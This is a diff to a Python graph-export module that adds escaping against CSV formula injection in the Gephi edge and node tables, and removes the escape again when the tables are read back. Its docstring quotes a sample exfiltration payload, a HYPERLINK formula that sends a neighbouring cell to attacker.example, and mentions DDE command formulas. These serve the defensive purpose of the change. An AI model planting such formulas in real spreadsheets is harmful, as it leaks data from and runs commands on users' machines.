@@ -10,6 +10,7 @@ specifications, collaborations, relations) are written as one string of space-se
 values (IRIs cannot contain spaces). Node-link JSON keeps them as lists. CSV is two files,
 `NAME.csv` (edges: source, target, type, weight, ...) and `NAME.nodes.csv` (id, label, ...),
 with the column names Gephi's spreadsheet import recognises (type is Directed or Undirected).
+A CSV cell a spreadsheet would take for a formula is written as text (`spreadsheet_cell`).
 DOT is written here, not by pydot, because pydot splits unquoted IRIs at the colon (port syntax).
 """
 
@@ -27,6 +28,10 @@ from kg.network.graphs import LIST_ATTRIBUTES, LIST_SEPARATOR, NetworkError
 
 FORMATS = {"graphml": ".graphml", "gexf": ".gexf", "json": ".json", "dot": ".dot", "csv": ".csv"}
 NODES_SUFFIX = ".nodes.csv"
+# What opens a formula in a spreadsheet's cell (OWASP, "CSV Injection"), and the mark that keeps a cell
+# text; a cell opening with the mark itself gets one more, so that reading back takes exactly one off.
+FORMULA_OPENERS = ("=", "+", "-", "@", "\t", "\r", "'")
+TEXT_MARK = "'"
 JSON_EDGES = "links"  # the key D3's force layout expects
 
 
@@ -119,6 +124,24 @@ def dot_text(graph: nx.Graph) -> str:
     return "\n".join([*lines, "}"]) + "\n"
 
 
+def spreadsheet_cell(value: Any) -> Any:
+    """A CSV cell no spreadsheet runs: text opening with `=`, `+`, `-`, `@`, a tab or a carriage return
+    gets a leading `'`, which LibreOffice Calc, Excel and Google Sheets show as text.
+
+    Why: the node table is opened in spreadsheets as well as in Gephi, and a label is whatever a store
+    holds (`kg store load` of someone's N-Quads, a Graph Store write, `--endpoint`): a label
+    `=HYPERLINK("http://attacker.example/?"&B2, "DMTF")` became a link that sends a neighbouring cell
+    away when clicked, and `=cmd|...` formulas have run commands (DDE). Numbers are written as numbers.
+    `read_csv` takes the mark off again, so the file reads back as the graph that was written."""
+    if isinstance(value, str) and value.startswith(FORMULA_OPENERS):
+        return TEXT_MARK + value
+    return value
+
+
+def _row(cells: list[Any]) -> list[Any]:
+    return [spreadsheet_cell(cell) for cell in cells]
+
+
 def write_csv(graph: nx.Graph, path: Path) -> list[Path]:
     """Edge table and node table, in the column names Gephi's import recognises."""
     edge_type = "Directed" if graph.is_directed() else "Undirected"
@@ -128,13 +151,13 @@ def write_csv(graph: nx.Graph, path: Path) -> list[Path]:
         writer = csv.writer(stream)
         writer.writerow(["source", "target", "type", *edge_keys])
         for a, b, data in graph.edges(data=True):
-            writer.writerow([a, b, edge_type, *(data.get(key, "") for key in edge_keys)])
+            writer.writerow(_row([a, b, edge_type, *(data.get(key, "") for key in edge_keys)]))
     nodes_path = nodes_file(path)
     with nodes_path.open("w", newline="", encoding="utf-8") as stream:
         writer = csv.writer(stream)
         writer.writerow(["id", *node_keys])
         for node, data in graph.nodes(data=True):
-            writer.writerow([node, *(data.get(key, "") for key in node_keys)])
+            writer.writerow(_row([node, *(data.get(key, "") for key in node_keys)]))
     return [path, nodes_path]
 
 
@@ -177,13 +200,22 @@ def read_dot(path: Path) -> nx.Graph:
     return nx.nx_pydot.read_dot(path)
 
 
+def _cells(rows: Any) -> list[dict[str, str]]:
+    """The rows of a table `write_csv` wrote, each cell's text mark (spreadsheet_cell) taken off."""
+    return [{key: _unmarked(value) for key, value in row.items()} for row in rows]
+
+
+def _unmarked(value: str | None) -> str | None:
+    return value[1:] if value and value.startswith(TEXT_MARK) else value
+
+
 def read_csv(path: Path) -> nx.Graph:
     with path.open(newline="", encoding="utf-8") as stream:
-        edges = list(csv.DictReader(stream))
+        edges = _cells(csv.DictReader(stream))
     directed = any(row.get("type") == "Directed" for row in edges)
     graph = nx.DiGraph() if directed else nx.Graph()
     with nodes_file(path).open(newline="", encoding="utf-8") as stream:
-        graph.add_nodes_from((row.pop("id"), row) for row in csv.DictReader(stream))
+        graph.add_nodes_from((row.pop("id"), row) for row in _cells(csv.DictReader(stream)))
     for row in edges:
         source, target = row.pop("source"), row.pop("target")
         row.pop("type", None)
